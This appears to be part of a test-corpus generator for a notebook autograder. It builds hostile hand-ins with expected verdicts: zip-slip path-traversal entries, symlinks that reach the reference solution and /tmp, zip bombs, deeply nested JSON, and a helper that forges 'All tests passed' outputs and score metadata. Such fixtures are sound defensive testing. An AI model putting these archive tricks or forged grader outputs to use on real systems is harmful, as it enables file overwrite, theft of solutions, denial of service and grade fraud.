    deep = '{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": ' + "[" * 200_000 + "]" * 200_000 + \
        '}, "cells": []}'
    add("deep_json", "a notebook nested 200,000 levels deep",
        Verdict(ZERO, frozenset({"broken_notebook"}), error="nested too deeply"),
        content=make_zip({MAIN_FILE: deep.encode()}))
    notebook = master()
    add("nbformat_v3", "the master saved as nbformat v3", Verdict(FULL, note="v3"),
        content=make_zip({MAIN_FILE: nbformat.writes(nbformat.convert(notebook, 3)).encode()}))
    filler = [f"filler_{i} = {i}" for i in range(10_000)]
    add("many_cells", "the master followed by 10,000 code cells", Verdict(FULL),
        notebook=master(after={"3g": filler}))

    # --- hostile zips -----------------------------------------------------------------------------------------
    notebook = notebook_bytes(master())
    add("zip_slip", "entries named ../, /abs, ..\\ and sub/../../, next to a good notebook",
        Verdict(FULL, frozenset({"unsafe_zip"})),
        content=_raw_zip([_stored(MAIN_FILE, notebook),
                          _stored(f"../../{pwned}-zip-slip", b"pwned"),
                          _stored(f"/tmp/{pwned}-zip-abs", b"pwned"),
                          _stored(f"..\\..\\{pwned}-zip-slip", b"pwned"),
                          _stored(f"sub/../../{pwned}-zip-slip", b"pwned")]))
    link = stat.S_IFLNK | 0o777
    notebook = notebook_bytes(master(after={"1c": [_escape_cell("""
        import os
        attempt("read the linked reference", lambda: open("reference.py").read())
        attempt("list the linked folder", lambda: os.listdir("escape"))
    """)]}))
    add("zip_symlinks", "symlink entries to the reference and to /tmp, and a file written through the link",
        Verdict(FULL, frozenset({"unsafe_zip"}), cell=_failed("error", "end of attempts")),
        content=_raw_zip([_stored(MAIN_FILE, notebook),
                          _stored("reference.py", str(t.repo / "reference" / "sheet02.py").encode(), link),
                          _stored("escape", b"/tmp", link),
                          _stored(f"escape/{pwned}", b"pwned")]))
    data, crc = zeros
    notebook = notebook_bytes(master())
    add("zip_bomb", "2 GB of zeros in about 2 MB, honestly declared",
        Verdict(ZERO, frozenset({"zip_bomb"}), error="limit"),
        content=_raw_zip([_stored(MAIN_FILE, notebook),
                          _RawEntry("zeros.bin", data, crc, ZEROS_BYTES, zipfile.ZIP_DEFLATED)]))
    notebook = notebook_bytes(master())
    add("zip_bomb_lying", "2 GB of zeros whose headers claim 1 kB",
        Verdict(FULL, frozenset({"corrupt_zip"})),
        content=_raw_zip([_stored(MAIN_FILE, notebook),
                          _RawEntry("zeros.bin", data, crc, 1024, zipfile.ZIP_DEFLATED)]))
    current = teams.next()
    add("zip_many_entries", "5,000 tiny entries",
        Verdict(ZERO, frozenset({"zip_bomb"}), error="entries"),
        content=_raw_zip([_stored(f"f{i}.txt", b"x") for i in range(5000)]))
    current = teams.next()
    add("corrupt_zip", "random bytes named .zip",
        Verdict(ZERO, frozenset({"corrupt_zip"}), error="not a readable zip"),
        content=bytes((i * 7919 + 13) % 251 for i in range(50_000)))
    current = teams.next()
    whole = _zip_of(master_notebook(current))
    add("truncated_zip", "a good zip cut in half",
        Verdict(ZERO, frozenset({"corrupt_zip"}), error="zip"),
        content=whole[: len(whole) // 2])
    current = teams.next()
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    add("empty_zip", "a valid zip with no entries",
        Verdict(ZERO, frozenset({"empty_zip"}), error="empty"),
        content=empty.getvalue())
    return hand_ins


def _master_cell_source(question: str) -> str:
    master = _master()
    return master.cells[_cell_position(master, SOLUTION_CELLS[question])].source


def _faked_outputs(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    notebook = copy.deepcopy(notebook)
    for count, cell in enumerate(c for c in notebook.cells if c.cell_type == "code"):
        cell.execution_count = count + 1
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed! 2/2 points\n"),
                        nbformat.v4.new_output("execute_result", data={"text/plain": "True"},
                                               execution_count=count + 1)]
        cell.metadata["nbgrader"] = {"grade": True, "points": 2, "solution": False, "grade_id": f"ok{count}"}
        cell.metadata["grader"] = {"points": 2, "passed": True}
    notebook.metadata["grader"] = {"score": 7.5, "all_passed": True}
    return notebook


# Short limits, so that the attacks that have to be waited out cost seconds, not minutes.
TEST_EXECUTION = """execution:
  cell_timeout: 3
  call_timeout: 3
  total_timeout: 90
  memory_mb: 1024
  max_processes: 32
  preload: [numpy, torch]
"""


def write_course(root: Path) -> Path:
    """A course folder for the batch: the real sheet 02 rubric with TEST_EXECUTION, the repo's reference."""
    text = (REPO / "rubrics" / "sheet02.yaml").read_text(encoding="utf-8")
    block = re.search(r"(?m)^execution:\n(?:  .*\n)+", text)
    assert block and "preload: [numpy, torch]" in block.group(0), "the sheet02 rubric's execution block changed"
    (root / "rubrics").mkdir(parents=True, exist_ok=True)
    (root / "rubrics" / "sheet02.yaml").write_text(text.replace(block.group(0), TEST_EXECUTION), encoding="utf-8")
    (root / "reference").symlink_to(REPO / "reference", target_is_directory=True)
    return root


def write_corpus(folder: Path, targets: Targets, zeros: tuple[bytes, int] | None = None,
                 only: frozenset[str] | None = None) -> list[HandIn]:
    """Write every hand-in (or those of the cases in `only`) into `folder`, named by the sheet rule, plus
    manifest.csv; return them."""
    folder.mkdir(parents=True, exist_ok=True)
    hand_ins = build_corpus(targets, zeros or zeros_deflated())
    if only is not None:
        unknown = only - {h.case for h in hand_ins}
        assert not unknown, f"no such cases in the corpus: {sorted(unknown)}"
        hand_ins = [h for h in hand_ins if h.case in only]
    names = [h.file_name for h in hand_ins]
    duplicates = {n for n in names if names.count(n) > 1}
    assert not duplicates, f"two hand-ins share a file name: {duplicates}"
    for hand_in in hand_ins:
        (folder / hand_in.file_name).write_bytes(hand_in.content)
    with (folder / "manifest.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", "timestamp"])
        writer.writerows([h.file_name, HANDED_IN] for h in hand_ins)
    return hand_ins


__all__ = ["FULL", "ZERO", "HandIn", "Targets", "Verdict", "build_corpus", "master_notebook", "up_to",
           "without", "write_corpus", "write_course", "zeros_deflated"]
